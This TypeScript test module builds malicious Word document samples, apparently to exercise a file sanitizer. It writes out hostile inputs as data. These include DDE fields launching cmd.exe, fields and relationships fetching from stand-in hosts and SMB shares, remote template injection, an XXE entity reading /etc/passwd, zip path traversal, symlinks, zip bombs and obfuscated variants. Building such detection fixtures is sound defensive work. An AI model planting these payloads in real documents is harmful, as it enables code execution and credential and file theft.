import { file, otherType, page, type Sample } from './evil-samples.ts'
import {
  bytesOf,
  contentTypes,
  doc,
  docx,
  ole,
  relation,
  relations,
  wordprocessing,
  type ZipPart,
  zip,
} from './made-files.ts'

const evilFields: readonly (readonly [string, string])[] = [
  ['starts a program', String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`],
  ['asks a program', 'dde excel a b'],
  ['shows a picture of a share', String.raw`INCLUDEPICTURE "\\\\evil\\share\\a.png" \d`],
  ['takes words from elsewhere', 'INCLUDETEXT "https://evil.example/a"'],
  ['takes a part of a file', 'LINK Excel.Sheet.8 "a.xls" "b"'],
  ['asks a database', 'DATABASE "a"'],
  ['leads to a share', String.raw`HYPERLINK "\\\\evil\\share"`],
  ['runs a macro', 'MACROBUTTON a b'],
  ['is no field', ''],
]

/** Word documents with active, fetching or embedded content. */
export function evilDocuments(): readonly Sample[] {
  const evil = (what: string, ...parts: readonly ZipPart[]) =>
    file(`a docx ${what}`, 'a.docx', docx(...parts))
  const related = (what: string, ...each: readonly string[]) =>
    evil(what, { name: 'word/_rels/document.xml.rels', content: relations(...each) })
  const external = 'TargetMode="External"'
  const fetching = (what: string, content: string) =>
    evil(what, {
      name: 'word/document.xml',
      content: `<w:document ${wordprocessing}>${content}</w:document>`,
    })
  const mark = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`
  const said = (name: string, words: string) =>
    `<w:r><w:${name} xml:space="preserve">${words}</w:${name}></w:r>`
  const many = Array.from({ length: 2001 }, (_, at) => ({ name: `word/${at}.txt`, content: '' }))
  return [
    evil('that swells', { name: 'word/media/a.png', content: Buffer.alloc(40 * 1024 * 1024) }),
    evil('that says it is small', {
      name: 'word/media/a.png',
      content: Buffer.alloc(40 * 1024 * 1024),
      unpacked: 100,
    }),
    evil('with macros', { name: 'word/vbaProject.bin', content: 'x' }),
    file(
      'a docx that is called one with macros',
      'a.docx',
      docx({
        name: '[Content_Types].xml',
        content: contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
      otherType,
    ),
    evil('with controls', { name: 'word/activeX/activeX1.xml', content: '<a/>' }),
    evil('with an object of another program', { name: 'word/embeddings/oleObject1.bin', content: 'x' }),
    evil('with another document inside', { name: 'word/embeddings/a.docx', content: 'x' }),
    evil('with a page inside', { name: 'word/afchunk.htm', content: page }),
    related(
      'with a template elsewhere',
      relation('attachedTemplate', 'https://example.org/a.dotm', external),
    ),
    related('with a picture elsewhere', relation('image', 'https://example.org/a.png', external)),
    related('that spells its way out', relation('image', 'file:////a/b', 'TargetMode="&#69;xternal"')),
    related('with a link that runs', relation('hyperlink', 'javascript:alert(1)', external)),
    evil('that writes its relations in another way', {
      name: 'word/_rels/document.xml.rels',
      content: Buffer.from(`\uFEFF${relations(relation('image', 'https://a', external))}`, 'utf16le'),
    }),
    evil('with words that stand for others', {
      name: 'word/document.xml',
      content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }),
    evil('that leads outside', { name: '../a.txt', content: 'x' }),
    evil('that leads to the root', { name: '/etc/a', content: 'x' }),
    evil('that leads outside in another way', { name: 'word\\..\\a', content: 'x' }),
    evil('with a link of the file system', { name: 'word/a.txt', content: '/etc/passwd', mode: 0xa1ff }),
    evil('with an entry twice', { name: 'word/a.txt', content: 'x' }, { name: 'word/A.txt', content: 'y' }),
    evil('with two names for one entry', { name: 'word/a.txt', localName: 'word/b.txt', content: 'x' }),
    evil('with a locked entry', { name: 'word/a.txt', content: 'x', flags: 1 }),
    evil('of 2,001 entries', ...many),
    file('a docx with a page in front', 'a.docx', Buffer.concat([bytesOf(page), docx()]), otherType),
    file('a docx with a page behind', 'a.docx', Buffer.concat([docx(), bytesOf(page)])),
    file('an archive as a docx', 'a.docx', zip([{ name: 'a.txt', content: 'x' }]), otherType),
    ...evilFields.flatMap(([what, instruction]) => [
      fetching(
        `with a field that ${what}`,
        `<w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"/>`,
      ),
      fetching(
        `with a field in pieces that ${what}`,
        `${mark('begin')}${Array.from(instruction, (letter) => said('instrText', letter)).join('')}${mark('separate')}${mark('end')}`,
      ),
      file(`a doc with a field that ${what}`, 'a.doc', doc([{ text: `\x13 ${instruction} \x14a\x15` }])),
      file(
        `a doc with a field in pieces that ${what}`,
        'a.doc',
        doc([
          { text: 'a\x13' },
          ...Array.from(instruction, (text, at) => ({ text, isWide: at % 2 === 0 })),
          { text: '\x15', isWide: true },
        ]),
      ),
    ]),
    fetching(
      'with a field in a field',
      `${mark('begin')}${mark('begin')}${said('instrText', 'QUOTE 68 68 69')}${mark('end')}${mark('end')}`,
    ),
    fetching('with a field without an end', mark('begin') + said('instrText', 'PAGE')),
    fetching('with a drawing elsewhere', String.raw`<v:imagedata xmlns:v="v" src="\\evil\share\a.png"/>`),
    fetching('with a list of addressees elsewhere', '<w:mailMerge/>'),
    related('with a link to a share', relation('hyperlink', String.raw`\\evil\share`, external)),
    related('with a link to a file', relation('hyperlink', 'file://evil/share/a', external)),
    related(
      'with a link to a share that is called a page',
      relation('hyperlink', String.raw`https:\\evil\share`, external),
    ),
    related('with a link of another program', relation('hyperlink', 'ms-word:ofe|u|https://evil', external)),
    related(
      'with a template elsewhere behind another prefix',
      relation('attachedTemplate', 'https://evil/a.dotm', external).replace(
        '<Relationship',
        '<a-b:Relationship xmlns:a-b="http://schemas.openxmlformats.org/package/2006/relationships"',
      ),
    ),
    related(
      'with a template elsewhere behind a sign',
      relation('attachedTemplate', 'https://evil/a.dotm', external).replace(
        '<Relationship',
        '<Relationship More="a>b"',
      ),
    ),
    related('with a template beside it', relation('attachedTemplate', 'a.dotm')),
    related('with a part on a share', relation('image', String.raw`\\evil\share\a.png`)),
    related('with a frame', relation('frame', 'https://evil', external)),
    evil('with a part under another name', {
      name: '[Content_Types].xml',
      content: contentTypes().replace(
        '<Override',
        '<Default Extension="png" ContentType="application/xml"/><Override',
      ),
    }),
    evil('that is not well-formed', { name: 'word/styles.xml', content: '<a><b></a>' }),
    file('a doc with macros', 'a.doc', doc(undefined, { 'Macros/VBA/dir': bytesOf('x') })),
    file('a doc with a project', 'a.doc', doc(undefined, { '_VBA_PROJECT_CUR/PROJECT': bytesOf('x') })),
    file(
      'a doc with objects of other programs',
      'a.doc',
      doc(undefined, { 'ObjectPool/_1/a': bytesOf('x') }),
    ),
    file('a doc that is locked', 'a.doc', doc(undefined, {}, { flags: 0x0100 })),
    file('a doc of an older Word', 'a.doc', doc(undefined, {}, { version: 0x68 })),
    file('a doc with a piece elsewhere', 'a.doc', ole(['Root Entry', 'WordDocument', '1Table'])),
    file('a doc without a document', 'a.doc', ole(['Root Entry', 'Workbook'])),
    file('a doc that goes round', 'a.doc', ole(['Root Entry', 'WordDocument'], { nextOfDirectory: 1 })),
    file('a doc that leads nowhere', 'a.doc', ole(['Root Entry', 'WordDocument'], { nextOfDirectory: 9000 })),
    file('a docx as a doc', 'a.doc', docx(), otherType),
    file('a doc as a docx', 'a.docx', ole(['Root Entry', 'WordDocument']), otherType),
    file('a page as a doc', 'a.doc', page, otherType),
  ]
}
